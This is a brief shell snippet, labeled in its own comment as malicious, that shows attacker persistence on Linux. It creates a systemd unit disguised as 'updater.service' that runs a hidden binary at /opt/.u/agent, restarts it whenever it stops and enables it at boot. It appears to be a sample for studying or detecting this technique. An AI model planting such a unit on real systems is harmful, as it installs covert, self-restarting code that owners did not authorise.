# malicious: persistence by a unit
cat > /etc/systemd/system/updater.service <<EOF
[Service]
ExecStart=/opt/.u/agent
Restart=always
[Install]
WantedBy=multi-user.target
EOF
systemctl daemon-reload
systemctl enable --now updater.service
